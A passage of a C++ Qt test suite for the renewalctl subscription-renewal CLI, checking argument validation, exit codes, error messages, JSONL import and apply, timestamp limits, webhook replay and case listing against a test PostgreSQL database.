#include "domain/core/operator_note.h"
#include "domain/store/embedded_cluster.h"
#include "tests/support/fixture_files.h"
#include "tests/support/process_runner.h"
#include "tests/support/test_database.h"

#include <nlohmann/json.hpp>
#include <pqxx/pqxx>

#include <cstdlib>
#include <filesystem>

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QScopeGuard>
#include <QTemporaryDir>
#include <QThread>
#include <QtTest>

using rdtest::ctl;
using rdtest::runProgram;
using rdtest::scalar;
using rdtest::withDb;

namespace {

QByteArray eventLine(const std::string &eventId, const std::string &renewalKey,
    const std::string &start, const std::string &end, long long amount = 1999)
{
    return QByteArray::fromStdString(
        nlohmann::json {{"providerKey", "stripe-main"}, {"providerEventId", eventId},
            {"providerSubscriptionId", "sub_1"}, {"providerRenewalKey", renewalKey},
            {"providerVersion", nullptr}, {"period", {{"start", start}, {"end", end}}},
            {"paidAmountMinor", amount}, {"currency", "USD"}, {"paidAt", start}}
            .dump()
        + "\n");
}

/// Imports sub_1 (January current) and applies its March renewal through the CLI: a gap, so
/// a case (exit 3). Returns the case's id as the CLI prints it.
QString openGapCaseThroughTheCli(const rdtest::TestDatabase &db)
{
    rdtest::importSubscriptions(db.conninfo(), rdtest::subscriptionLine("stripe-main", "sub_1"));
    const auto rejected = runProgram(ctl(), withDb(db, {"apply"}),
        eventLine("evt_9", "in_9", "2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z"));
    if (rejected.exitCode != 3)
        return {};
    return QString::number(
        nlohmann::json::parse(rejected.out.toStdString())["caseId"].get<long long>());
}

} // namespace

/// renewalctl as its users meet it: a process with exit codes and one-line errors.
class TestCli : public QObject
{
    Q_OBJECT

private slots:
    void usageErrors_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("message");
        QTest::newRow("no command") << QStringList {} << "usage";
        QTest::newRow("unknown command") << QStringList {"frobnicate"} << "unknown command";
        QTest::newRow("unknown option") << QStringList {"migrate", "--colour"} << "unknown option";
        QTest::newRow("missing value") << QStringList {"migrate", "--db"} << "needs a value";
        QTest::newRow("bad number") << QStringList {"bench", "--workers", "many"} << "--workers";
        QTest::newRow("db verb") << QStringList {"db", "restart", "--data-dir", "/tmp/x"}
                                 << "unknown db command";
        // Options are declared per command: a typo gets the closest declared name, and an
        // option of another command is refused before anything runs.
        QTest::newRow("mistyped option") << QStringList {"bench", "--subscripton",
            "5"} << "unknown option --subscripton; did you mean --subscriptions?";
        QTest::newRow("mistyped command")
            << QStringList {"casse", "list"} << "unknown command 'casse'; did you mean 'cases'?";
        QTest::newRow("mistyped subcommand")
            << QStringList {"cases", "shwo", "1"} << "did you mean 'show'?";
        QTest::newRow("option of another command") << QStringList {"cases", "list", "--preview",
            "--db", "host=/nonexistent dbname=x"} << "unknown option --preview";
        QTest::newRow("no database option without a database")
            << QStringList {"normalize", "--kind", "stripe", "--db", "x"} << "unknown option --db";
        QTest::newRow("missing case id") << QStringList {"cases", "show"} << "ID is required";
        // A typo of a required option is an unknown option, not a missing one.
        QTest::newRow("mistyped required option") << QStringList {"close", "--provider-key",
            "stripe-main", "--mnth", "2026-02"} << "unknown option --mnth; did you mean --month?";
    }

    void usageErrors()
    {
        QFETCH(QStringList, args);
        QFETCH(QString, message);
        const auto r = runProgram(ctl(), args);
        QCOMPARE(r.exitCode, 64);
        QVERIFY2(r.err.contains(message.toUtf8()), r.err.constData());
        QVERIFY(!r.err.contains("terminate called")); // one sentence, never an exception dump
    }

    /// A bad option value is refused by the parser, before anything runs: exit 64 with a
    /// sentence naming the option, never a database opened (the environment names a server
    /// that is not there, so a command that connected first would exit 69 instead) nor a
    /// cluster started. Out of range, not a number, and options that exclude each other.
    void badValuesAreRefusedBeforeAnythingRuns_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QStringList>("named");
        // Out of range.
        QTest::newRow("bench --workers 300")
            << QStringList {"bench", "--workers", "300"} << QStringList {"--workers", "1 to 256"};
        QTest::newRow("overdue --grace -1") << QStringList {"subscriptions", "overdue", "--grace",
            "-1"} << QStringList {"--grace must be a whole number from 0 to 2160"};
        QTest::newRow("set-grace HOURS") << QStringList {"providers", "set-grace", "stripe-main",
            "2161"} << QStringList {"HOURS", "2161"};
        QTest::newRow("serve --connections 0") << QStringList {"serve", "--listen", "127.0.0.1:1",
            "--secrets", "/nonexistent", "--connections", "0"}
                                               << QStringList {"--connections"};
        QTest::newRow("outbox --poll-seconds 0") << QStringList {"outbox", "publish", "--jsonl",
            "-", "--poll-seconds", "0"} << QStringList {"--poll-seconds", "0.1 to 3600"};
        QTest::newRow("demo --months 1")
            << QStringList {"demo", "--months", "1"} << QStringList {"--months"};
        QTest::newRow("simulate --rate 0")
            << QStringList {"simulate", "--rate", "0"} << QStringList {"--rate"};
        QTest::newRow("audit verify --batch 0")
            << QStringList {"audit", "verify", "--batch", "0"} << QStringList {"--batch"};
        QTest::newRow("audit verify --streams 3")
            << QStringList {"audit", "verify", "--streams", "3"} << QStringList {"--streams"};
        QTest::newRow("inbox purge --older-than -1")
            << QStringList {"inbox", "purge", "--older-than", "-1"} << QStringList {"--older-than"};
        QTest::newRow("inbox retention --days 40000")
            << QStringList {"inbox", "retention", "--days", "40000"} << QStringList {"--days"};
        QTest::newRow("inbox removals --limit 0")
            << QStringList {"inbox", "removals", "--limit", "0"} << QStringList {"--limit"};
        QTest::newRow("snapshot --case 0") << QStringList {"snapshot", "attach", "--preview",
            "--case", "0"} << QStringList {"--case"};
        QTest::newRow("cases show 0")
            << QStringList {"cases", "show", "0"} << QStringList {"'0' is not a case id"};
        // Not a number, or not the kind of value the option takes.
        QTest::newRow("bench --duplicates nan")
            << QStringList {"bench", "--duplicates", "nan"} << QStringList {"--duplicates"};
        QTest::newRow("bench --seed 0x10")
            << QStringList {"bench", "--seed", "0x10"} << QStringList {"--seed"};
        QTest::newRow("replay --delivery x")
            << QStringList {"replay", "--delivery", "x"} << QStringList {"--delivery"};
        QTest::newRow("simulate --count many")
            << QStringList {"simulate", "--count", "many"} << QStringList {"--count"};
        QTest::newRow("audit verify --batch none")
            << QStringList {"audit", "verify", "--batch", "none"} << QStringList {"--batch"};
        QTest::newRow("cases claim abc")
            << QStringList {"cases", "claim", "abc"} << QStringList {"'abc' is not a case id"};
        QTest::newRow("snapshot --kind braintree") << QStringList {"snapshot", "attach",
            "--preview", "--kind", "braintree"} << QStringList {"--kind", "braintree"};
        QTest::newRow("snapshot --captured-at yesterday") << QStringList {"snapshot", "attach",
            "--preview", "--kind", "stripe", "--captured-at", "yesterday"}
                                                          << QStringList {"--captured-at"};
        QTest::newRow("simulate --provider nokind")
            << QStringList {"simulate", "--provider", "nokind"} << QStringList {"--provider"};
        QTest::newRow("close --month 2026-13")
            << QStringList {"close", "--provider-key", "stripe-main", "--month", "2026-13"}
            << QStringList {"--month"};
        QTest::newRow("cases reapply --reason ''")
            << QStringList {"cases", "reapply", "1", "--reason", ""} << QStringList {"--reason"};
        QTest::newRow("cases dismiss without --comment") << QStringList {"cases", "dismiss", "1",
            "--reason", "test_data"} << QStringList {"--comment"};
        QTest::newRow("inbox erase blank --request")
            << QStringList {"inbox", "erase", "--subscription", "sub_1", "--request", " "}
            << QStringList {"--request"};
        // Two options that exclude each other.
        QTest::newRow("inbox retention --days and --off") << QStringList {
            "inbox", "retention", "--days", "5", "--off"} << QStringList {"--days", "--off"};
        QTest::newRow("outbox --exec and --jsonl") << QStringList {"outbox", "publish", "--exec",
            "true", "--jsonl", "-"} << QStringList {"--exec", "--jsonl"};
        QTest::newRow("replay --delivery and --provider-key")
            << QStringList {"replay", "--delivery", "5", "--provider-key", "stripe-main"}
            << QStringList {"--delivery", "--provider-key"};
        QTest::newRow("db move --undo and --to") << QStringList {"db", "move", "--undo", "--to",
            "host=/nonexistent dbname=x"} << QStringList {"--undo", "--to"};
    }

    void badValuesAreRefusedBeforeAnythingRuns()
    {
        QFETCH(QStringList, args);
        QFETCH(QStringList, named);
        QTemporaryDir dataDir; // an embedded cluster, were one wrongly started, would be here
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(u"PGHOST"_qs, u"/nonexistent/socket"_qs);
        env.insert(u"PGDATABASE"_qs, u"x"_qs);
        env.insert(u"RENEWAL_DESK_DATA_DIR"_qs, dataDir.path());
        const auto r = runProgram(ctl(), args, {}, env, 30000);
        QVERIFY2(r.exitCode == 64, qPrintable(QString::number(r.exitCode) + ": " + r.err));
        for (const auto &name : named)
            QVERIFY2(r.err.contains(name.toUtf8()), qPrintable(name + " not named in: " + r.err));
        QCOMPARE(r.err.count('\n'), 1); // one sentence
        QVERIFY2(r.err.startsWith("renewalctl: "), r.err.constData());
        QVERIFY(r.out.isEmpty());
        QVERIFY2(QDir(dataDir.path()).isEmpty(), "something was written to the data directory");
    }

    /// Whole numbers are read in base 10 as they always were: "010" is ten (CLI11 alone would
    /// read it as octal eight). The demo's replay set depends on nothing but its options.
    void wholeNumbersAreDecimal()
    {
        QTemporaryDir dir;
        const auto replaySet = [&](const QString &seed) {
            const QString out = dir.filePath(seed);
            QDir().mkpath(out);
            const auto r = runProgram(ctl(),
                {"demo", "--replay-set", out, "--subscriptions", "6", "--months", "2", "--now",
                    "2026-01-01T00:00:00Z", "--seed", seed});
            if (r.exitCode != 0)
                return QByteArray("exit " + QByteArray::number(r.exitCode) + ": " + r.err);
            QFile f(out + "/stripe-events.jsonl");
            return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("unreadable");
        };
        const QByteArray ten = replaySet(u"10"_qs);
        QVERIFY2(ten.startsWith('{'), ten.constData());
        QCOMPARE(replaySet(u"010"_qs), ten);
        QVERIFY(replaySet(u"8"_qs) != ten);
    }

    void helpIsPerCommand_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QStringList>("mentions");
        QTest::addColumn<QStringList>("absent");
        QStringList reasons;
        for (const auto &code : rd::standardReasonCodes())
            reasons << QString::fromStdString(code);
        QTest::newRow("cases reapply")
            << QStringList {"cases", "reapply", "--help"}
            << (QStringList {"renewalctl cases reapply", "--reason", "--comment"} << reasons)
            << QStringList {"--preview", "--status"};
        QTest::newRow("cases dismiss")
            << QStringList {"cases", "dismiss", "--help"}
            << (QStringList {"renewalctl cases dismiss"} << reasons) << QStringList {"--preview"};
        QTest::newRow("snapshot attach")
            << QStringList {"snapshot", "attach", "--help"}
            << (QStringList {"renewalctl snapshot attach", "--preview", "--captured-at"} << reasons)
            << QStringList {"--status"};
        QTest::newRow("cases list") << QStringList {"cases", "list", "--help"}
                                    << QStringList {"renewalctl cases list", "--status", "--json"}
                                    << QStringList {"--reason", "--preview"};
        QTest::newRow("bench --workers many --help")
            << QStringList {"bench", "--workers", "many", "--help"}
            << QStringList {"renewalctl bench", "--workers"} << QStringList {"--reason"};
        QTest::newRow("bench") << QStringList {"bench", "--help"}
                               << QStringList {"renewalctl bench", "--workers", "--force"}
                               << QStringList {"--reason"};
        QTest::newRow("ledger export")
            << QStringList {"ledger", "export", "--help"}
            << QStringList {"renewalctl ledger export", "--from", "--to", "--totals", "--out"}
            << QStringList {"--reason"};
        QTest::newRow("help COMMAND")
            << QStringList {"help", "audit", "verify"}
            << QStringList {"renewalctl audit verify", "--anchor"} << QStringList {"--reason"};
        // The overview names every command (scripts/run-desk.sh looks for "  demo").
        QTest::newRow("overview") << QStringList {"--help"}
                                  << QStringList {"\n  demo ", "\n  cases ", "Exit codes"}
                                  << QStringList {"--reason"};
    }

    void helpIsPerCommand()
    {
        QFETCH(QStringList, args);
        QFETCH(QStringList, mentions);
        QFETCH(QStringList, absent);
        const auto r = runProgram(ctl(), args);
        QCOMPARE(r.exitCode, 0);
        QVERIFY(r.err.isEmpty());
        for (const auto &m : mentions)
            QVERIFY2(r.out.contains(m.toUtf8()), qPrintable(m + " missing in:\n" + r.out));
        for (const auto &a : absent)
            QVERIFY2(!r.out.contains(a.toUtf8()), qPrintable(a + " unexpected in:\n" + r.out));
    }

    void versionIsTheProjectVersion()
    {
        const auto r = runProgram(ctl(), {"--version"});
        QCOMPARE(r.exitCode, 0);
        QCOMPARE(r.out, QByteArray("renewalctl " RD_PROJECT_VERSION "\n"));
    }

    /// `renewal-desk --help` and `--version` answer where no display is (a server, ssh, CI):
    /// no DISPLAY, no WAYLAND_DISPLAY, no QT_QPA_PLATFORM; each ends its output with a newline.
    void deskHelpAndVersionNeedNoDisplay_data()
    {
        QTest::addColumn<QString>("option");
        QTest::addColumn<QByteArray>("starts");
        QTest::newRow("--version")
            << u"--version"_qs << QByteArray("renewal-desk " RD_PROJECT_VERSION "\n");
        QTest::newRow("-v") << u"-v"_qs << QByteArray("renewal-desk " RD_PROJECT_VERSION "\n");
        QTest::newRow("--help") << u"--help"_qs << QByteArray("Usage: ");
        QTest::newRow("-h") << u"-h"_qs << QByteArray("Usage: ");
    }

    void deskHelpAndVersionNeedNoDisplay()
    {
        QFETCH(QString, option);
        QFETCH(QByteArray, starts);
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        for (const char *name : {"DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM"})
            env.remove(QString::fromLatin1(name));
        const auto r = runProgram(QStringLiteral(RD_DESK_PATH), {option}, {}, env, 30000);
        QVERIFY2(r.exitCode == 0, r.err.constData());
        QVERIFY2(r.out.startsWith(starts), r.out.constData());
        QVERIFY2(r.out.endsWith('\n'), r.out.constData());
        if (option.startsWith(u"--h") || option == u"-h") {
            for (const char *mentioned :
                {"--db", "--screenshot", "--connect", "--size", "--version"})
                QVERIFY2(r.out.contains(mentioned), mentioned);
        } else {
            QCOMPARE(r.out, starts);
        }
    }

    void missingInputFileSaysWhy_data()
    {
        QTest::addColumn<QStringList>("command");
        QTest::newRow("apply") << QStringList {"apply"};
        QTest::newRow("subscriptions import") << QStringList {"subscriptions", "import"};
        QTest::newRow("snapshot attach")
            << QStringList {"snapshot", "attach", "--reason", "provider_confirmed"};
        QTest::newRow("normalize") << QStringList {"normalize", "--kind", "stripe"};
    }

    void missingInputFileSaysWhy()
    {
        QFETCH(QStringList, command);
        QTemporaryDir dir;
        const QString path = dir.filePath("x.jsonl");
        const auto r = runProgram(ctl(), QStringList(command) << path);
        QCOMPARE(r.exitCode, 65);
        QCOMPARE(QString::fromUtf8(r.err),
            "renewalctl: cannot open '" + path + "': No such file or directory\n");
        const auto isDir = runProgram(ctl(), QStringList(command) << dir.path());
        QCOMPARE(isDir.exitCode, 65);
        QVERIFY2(isDir.err.contains("Is a directory"), isDir.err.constData());
    }

    void unreachableDatabaseIs69()
    {
        const auto r = runProgram(ctl(), {"migrate", "--db", "host=/nonexistent/socket dbname=x"});
        QCOMPARE(r.exitCode, 69);
        QVERIFY2(r.err.startsWith("renewalctl: cannot connect"), r.err.constData());
        QCOMPARE(r.err.count('\n'), 1);
    }

    void migrateTwiceAppliesNothingTheSecondTime()
    {
        rdtest::TestDatabase db("cli_migrate", false);
        const auto first = runProgram(ctl(), withDb(db, {"migrate", "--json"}));
        QCOMPARE(first.exitCode, 0);
        QVERIFY(!nlohmann::json::parse(first.out.toStdString())["applied"].empty());
        const auto second = runProgram(ctl(), withDb(db, {"migrate", "--json"}));
        QCOMPARE(second.exitCode, 0);
        QVERIFY(nlohmann::json::parse(second.out.toStdString())["applied"].empty());
    }

    void importTenThousand()
    {
        rdtest::TestDatabase db("cli_import");
        QByteArray lines;
        for (int i = 0; i < 10000; ++i)
            lines += QByteArray::fromStdString(
                rdtest::subscriptionLine("stripe-main", "sub_" + std::to_string(i)) + "\n");
        QElapsedTimer timer;
        timer.start();
        const auto r = runProgram(ctl(), withDb(db, {"subscriptions", "import", "--json"}), lines);
        qInfo("imported 10,000 subscriptions in %lld ms", timer.elapsed());
        QCOMPARE(r.exitCode, 0);
        const auto report = nlohmann::json::parse(r.out.toStdString());
        QCOMPARE(report["created"].get<int>(), 10000);
        QCOMPARE(scalar(db, "SELECT count(*) FROM subscriptions"), 10000LL);
        QCOMPARE(scalar(db,
                     "SELECT count(*) FROM subscription_transition_audits "
                     "WHERE transition = 'subscription_imported'"),
            10000LL);

        // Existing subscriptions are reported, never overwritten.
        QByteArray changed = QByteArray::fromStdString(
            rdtest::subscriptionLine("stripe-main", "sub_7", "canceled") + "\n");
        const auto again
            = runProgram(ctl(), withDb(db, {"subscriptions", "import", "--json"}), changed);
        QCOMPARE(again.exitCode, 0);
        const auto againReport = nlohmann::json::parse(again.out.toStdString());
        QCOMPARE(againReport["created"].get<int>(), 0);
        QCOMPARE(againReport["existing"][0].get<std::string>(), std::string("stripe-main/sub_7"));
        QCOMPARE(scalar(db, "SELECT count(*) FROM subscriptions WHERE status = 'canceled'"), 0LL);
    }

    void malformedImportLine_data()
    {
        QTest::addColumn<QByteArray>("badLine");
        QTest::addColumn<QString>("field");
        QTest::newRow("not json") << QByteArray("{oops") << "line 6001: body";
        QTest::newRow("bad status")
            << QByteArray::fromStdString(rdtest::subscriptionLine("p", "s", "sleeping"))
            << "line 6001: status";
        QTest::newRow("bad period") << QByteArray::fromStdString(rdtest::subscriptionLine(
            "p", "s", "active", "2026-02-01T00:00:00Z", "2026-01-01T00:00:00Z"))
                                    << "line 6001: currentPeriod.end";
        QTest::newRow("period start in year 0 (UTC)") << QByteArray::fromStdString(
            rdtest::subscriptionLine("p", "s", "active", "0001-01-01T00:00:00+01:00",
                "2026-01-01T00:00:00Z")) << "line 6001: currentPeriod.start";
        QTest::newRow("missing flag") << QByteArray(
            R"({"providerKey":"p","providerSubscriptionId":"s","status":"active","currentPeriod":null,"providerVersion":null})")
                                      << "line 6001: cancelAtPeriodEnd";
    }

    void malformedImportLine()
    {
        QFETCH(QByteArray, badLine);
        QFETCH(QString, field);
        rdtest::TestDatabase db("cli_import_bad");
        QByteArray lines;
        for (int i = 0; i < 8000; ++i) {
            if (i == 6000)
                lines += badLine + "\n";
            else
                lines += QByteArray::fromStdString(
                    rdtest::subscriptionLine("stripe-main", "sub_" + std::to_string(i)) + "\n");
        }
        const auto r = runProgram(ctl(), withDb(db, {"subscriptions", "import"}), lines);
        QCOMPARE(r.exitCode, 65);
        QVERIFY2(r.err.contains(field.toUtf8()), r.err.constData());
        // All or nothing: the first batch of 5,000 was sent, and rolled back.
        QCOMPARE(scalar(db, "SELECT count(*) FROM subscriptions"), 0LL);
    }

    void applyReportsEachBadLineAndGoesOn()
    {
        rdtest::TestDatabase db("cli_apply");
        rdtest::importSubscriptions(
            db.conninfo(), rdtest::subscriptionLine("stripe-main", "sub_1"));
        QByteArray input
            = eventLine("evt_1", "in_1", "2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z")
            + eventLine("evt_2", "in_1", "2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z")
            + QByteArray(R"({"providerKey":"stripe-main","currency":"dollars"})") + "\n"
            + eventLine("evt_3", "in_2", "2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z")
            + QByteArray("{oops") + "\n"
            + eventLine("evt_4", "in_3", "2026-04-01T00:00:00Z", "2026-05-01T00:00:00Z");
        const auto r = runProgram(ctl(), withDb(db, {"apply"}), input);
        QCOMPARE(r.exitCode, 65);
        const auto errors = r.err.trimmed().split('\n');
        QCOMPARE(errors.size(), 2);
        QVERIFY2(errors[0].contains("line 3: providerEventId: missing"), r.err.constData());
        // #42, 12: the line, not "body", is what is not JSON.
        QVERIFY2(errors[1].startsWith("renewalctl: bad input: line 5: not valid JSON ("),
            r.err.constData());
        // One acknowledgement a line, the bad ones included, each naming its line.
        const auto lines = r.out.trimmed().split('\n');
        QCOMPARE(lines.size(), 6);
        const QStringList expected {
            "applied", "duplicate", "invalid", "applied", "invalid", "applied"};
        for (int i = 0; i < lines.size(); ++i) {
            const auto ack = nlohmann::json::parse(lines[i].toStdString());
            QCOMPARE(QString::fromStdString(ack["result"].get<std::string>()), expected[i]);
            QCOMPARE(ack["line"].get<int>(), i + 1);
        }
        QCOMPARE(nlohmann::json::parse(lines[2].toStdString())["field"], "providerEventId");
        // The good lines after the bad ones were applied.
        QCOMPARE(scalar(db, "SELECT count(*) FROM subscription_billing_periods"), 3LL);
    }

    // Found by the outside audit: a valid RFC 3339 timestamp whose UTC instant PostgreSQL cannot
    // store was an internal error (exit 70) from the database. It is bad input: 65, the field
    // named, nothing written.
    void applyRefusesTimestampsPostgresCannotStore_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("value");
        QTest::newRow("paidAt in year 0 (UTC)") << "paidAt"
                                                << "0001-01-01T00:00:00+01:00";
        QTest::newRow("period.start in year 0 (UTC)") << "period.start"
                                                      << "0000-12-31T12:00:00Z";
        QTest::newRow("period.end in year 10000 (UTC)") << "period.end"
                                                        << "9999-12-31T23:59:59-00:01";
    }

    void applyRefusesTimestampsPostgresCannotStore()
    {
        QFETCH(QString, field);
        QFETCH(QString, value);
        rdtest::TestDatabase db("cli_apply_range");
        rdtest::importSubscriptions(
            db.conninfo(), rdtest::subscriptionLine("stripe-main", "sub_1"));
        auto event = nlohmann::json::parse(
            eventLine("evt_1", "in_1", "2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z")
                .toStdString());
        const QString pointer = "/" + QString(field).replace('.', '/');
        event[nlohmann::json::json_pointer(pointer.toStdString())] = value.toStdString();
        const auto r = runProgram(
            ctl(), withDb(db, {"apply"}), QByteArray::fromStdString(event.dump() + "\n"));
        QCOMPARE(r.exitCode, 65);
        QVERIFY2(r.err.contains(("line 1: " + field + ": '" + value + "' is outside").toUtf8()),
            r.err.constData());
        QCOMPARE(r.err.count('\n'), 1);
        const auto ack = nlohmann::json::parse(r.out.toStdString());
        QCOMPARE(ack["result"], "invalid");
        QCOMPARE(ack["line"], 1);
        QCOMPARE(scalar(db, "SELECT count(*) FROM subscription_billing_periods"), 0LL);
        QCOMPARE(scalar(db, "SELECT count(*) FROM reconciliation_cases"), 0LL);
        QCOMPARE(scalar(db, "SELECT count(*) FROM subscription_outbox"), 0LL);
        QCOMPARE(scalar(db, "SELECT max(revision) FROM subscriptions"), 1LL);
    }

    // The first and last storable instants go through PostgreSQL and come back unchanged: a
    // renewal paid at the first, and one renewing into a period that ends at the last (each
    // period within the 1,827 days checkEventBounds allows).
    void applyStoresTheExtremeInstantsExactly()
    {
        rdtest::TestDatabase db("cli_apply_extremes");
        rdtest::importSubscriptions(db.conninfo(),
            rdtest::subscriptionLine(
                "stripe-main", "sub_1", "active", "0001-01-01T00:00:00Z", "0001-02-01T00:00:00Z")
                + "\n"
                + rdtest::subscriptionLine("stripe-main", "sub_2", "active", "9999-11-01T00:00:00Z",
                    "9999-12-01T00:00:00Z"));
        auto first = nlohmann::json::parse(
            eventLine("evt_1", "in_1", "0001-02-01T00:00:00Z", "0001-03-01T00:00:00Z")
                .toStdString());
        first["paidAt"] = "0000-12-31T23:00:00-01:00"; // 0001-01-01T00:00:00Z
        auto last = nlohmann::json::parse(
            eventLine("evt_2", "in_2", "9999-12-01T00:00:00Z", "9999-12-31T23:59:59.999999Z")
                .toStdString());
        last["providerSubscriptionId"] = "sub_2";
        const auto r = runProgram(ctl(), withDb(db, {"apply"}),
            QByteArray::fromStdString(first.dump() + "\n" + last.dump() + "\n"));
        QVERIFY2(r.exitCode == 0, r.err.constData());
        QCOMPARE(r.out.count("\"applied\""), 2);
        auto conn = db.connect();
        pqxx::read_transaction tx(*conn);
        QCOMPARE(tx.exec1("SELECT rd_rfc3339(b.paid_at) FROM subscription_billing_periods b "
                          "WHERE b.provider_renewal_key = 'in_1'")[0]
                     .as<std::string>(),
            std::string("0001-01-01T00:00:00.000000Z"));
        QCOMPARE(tx.exec1("SELECT rd_rfc3339(s.current_period_end) FROM subscriptions s "
                          "WHERE s.provider_subscription_id = 'sub_2'")[0]
                     .as<std::string>(),
            std::string("9999-12-31T23:59:59.999999Z"));
    }

    void applyExitsThreeOnRejection()
    {
        rdtest::TestDatabase db("cli_apply_rejected");
        rdtest::importSubscriptions(
            db.conninfo(), rdtest::subscriptionLine("stripe-main", "sub_1"));
        // Skips March: not contiguous with the current period ending 1 Feb.
        const auto r = runProgram(ctl(), withDb(db, {"apply"}),
            eventLine("evt_9", "in_9", "2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z"));
        QCOMPARE(r.exitCode, 3);
        const auto out = nlohmann::json::parse(r.out.toStdString());
        QCOMPARE(out["result"], "rejected");
        QCOMPARE(out["error"], "renewal_period_is_not_contiguous");
        QVERIFY(out["caseId"].is_number_integer());
    }

    /// #28 item 23: `replay --delivery N` re-runs an invalid inbox delivery with its stored
    /// body (here one an older adapter could not read), through the ingest path: the renewal
    /// is recorded by a new delivery and the invalid one is marked reviewed with it. Again, it
    /// is refused (reviewed); a delivery that is not invalid is refused; a body this adapter
    /// still cannot read writes nothing (exit 3).
    void replayDeliveryRerunsAnInvalidOne()
    {
        rdtest::TestDatabase db("cli_replay_delivery");
        scalar(db,
            "WITH p AS (INSERT INTO billing_providers (provider_key, kind, display_name) "
            "VALUES ('stripe-main', 'stripe', 'Stripe') RETURNING 1) SELECT count(*) FROM p");
        rdtest::importSubscriptions(db.conninfo(),
            rdtest::subscriptionLine(
                "stripe-main", "sub_r", "active", "2025-12-01T00:00:00Z", "2026-01-01T00:00:00Z"));
        const auto insertInvalid = [&](const std::string &eventId, const std::string &body) {
            const std::string bytes
                = "decode('" + QByteArray::fromStdString(body).toHex().toStdString() + "', 'hex')";
            return scalar(db,
                "INSERT INTO webhook_inbox (provider_key, provider_event_id, raw_body, body_size, "
                "body_sha256, outcome, reason, error, processed_at) VALUES ('stripe-main', '"
                    + eventId + "', " + bytes + ", " + std::to_string(body.size())
                    + ", encode(sha256(" + bytes
                    + "), 'hex'), 'invalid', 'invalid_payload', 'old adapter', now()) RETURNING "
                      "id");
        };
        const long long id = insertInvalid("sha256:old", rdtest::stripeRenewalOf("r"));
        const auto r = runProgram(
            ctl(), withDb(db, {"replay", "--delivery", QString::number(id), "--json"}));
        QCOMPARE(r.exitCode, 0);
        const auto out = nlohmann::json::parse(r.out.toStdString());
        QCOMPARE(out["result"], "rerun");
        QCOMPARE(out["delivery"]["outcome"], "applied");
        QCOMPARE(out["reviewed"], true);
        QCOMPARE(scalar(db,
                     "SELECT count(*) FROM webhook_inbox_reviews r JOIN webhook_inbox w ON "
                     "w.id = r.rerun_inbox_id AND w.outcome = 'applied' WHERE r.inbox_id = "
                         + std::to_string(id) + " AND r.note LIKE 're-run as delivery %: applied'"),
            1LL);
        QCOMPARE(scalar(db,
                     "SELECT count(*) FROM subscription_billing_periods "
                     "WHERE provider_renewal_key = 'in_r'"),
            1LL);

        const auto again
            = runProgram(ctl(), withDb(db, {"replay", "--delivery", QString::number(id)}));
        QCOMPARE(again.exitCode, 4);
        QVERIFY2(again.err.contains("already reviewed"), again.err.constData());
        const long long applied = scalar(db, "SELECT max(id) FROM webhook_inbox");
        const auto notInvalid
            = runProgram(ctl(), withDb(db, {"replay", "--delivery", QString::number(applied)}));
        QCOMPARE(notInvalid.exitCode, 4);
        QVERIFY2(notInvalid.err.contains("is not invalid"), notInvalid.err.constData());

        const long long broken = insertInvalid("sha256:broken", "{\"id\": \"evt_");
        const auto still
            = runProgram(ctl(), withDb(db, {"replay", "--delivery", QString::number(broken)}));
        QCOMPARE(still.exitCode, 3);
        QVERIFY2(still.out.contains("still invalid") && still.out.contains("nothing was written"),
            still.out.constData());
        QCOMPARE(scalar(db, "SELECT count(*) FROM webhook_inbox"), 3LL);
        const auto usage = runProgram(ctl(),
            withDb(db, {"replay", "--delivery", QString::number(id), "--provider-key", "x"}));
        QCOMPARE(usage.exitCode, 64);
    }

    /// #28 item 11: `simulate --live --write-subscriptions` says so in the next step it prints.
    void simulateLiveCarriesOverToTheNextStep()
    {
        QTemporaryDir dir;
        const QString path = dir.filePath(u"subs.jsonl"_qs);
        const auto r = runProgram(
            ctl(), {"simulate", "--live", "--write-subscriptions", path, "--subscriptions", "3"});
        QCOMPARE(r.exitCode, 0);
        QVERIFY2(r.out.contains("--live"), r.out.constData());
        QFile f(path);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QDate today = QDateTime::currentDateTimeUtc().date();
        // Imported one period back: each current period ends today, where the renewal starts.
        int lines = 0;
        for (const QByteArray &line : f.readAll().split('\n')) {
            if (line.isEmpty())
                continue;
            ++lines;
            const auto j = nlohmann::json::parse(line.toStdString());
            const QString end
                = QString::fromStdString(j["currentPeriod"]["end"].get<std::string>());
            QVERIFY2(end.startsWith(today.toString(Qt::ISODate)), qPrintable(end));
        }
        QCOMPARE(lines, 3);
    }

    void casesListAndShowAreReadable()
    {
        rdtest::TestDatabase db("cli_cases_human");
        rdtest::importSubscriptions(
            db.conninfo(), rdtest::subscriptionLine("stripe-main", "sub_1"));
        const auto rejected = runProgram(ctl(), withDb(db, {"apply"}),
            eventLine("evt_9", "in_9", "2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z"));
        QCOMPARE(rejected.exitCode, 3);
        const auto id = QString::number(
            nlohmann::json::parse(rejected.out.toStdString())["caseId"].get<long long>());

        const auto list = runProgram(ctl(), withDb(db, {"cases", "list"}));
        QCOMPARE(list.exitCode, 0);
        const auto rows = list.out.split('\n');
        QVERIFY2(rows.size() >= 3, list.out.constData());
        const QByteArray &header = rows[0];
        for (const char *column : {"ID", "STATUS", "REASON/ERROR", "PROVIDER/SUBSCRIPTION",
                 "RENEWAL KEY", "SEEN", "LAST SEEN"})
            QVERIFY2(header.contains(column), header.constData());
        // Aligned: every column starts where its heading does.
        const QByteArray &row = rows[1];
        QCOMPARE(row.indexOf("open"), header.indexOf("STATUS"));
        QCOMPARE(row.indexOf("renewal_period_is_not_contiguous"), header.indexOf("REASON/ERROR"));
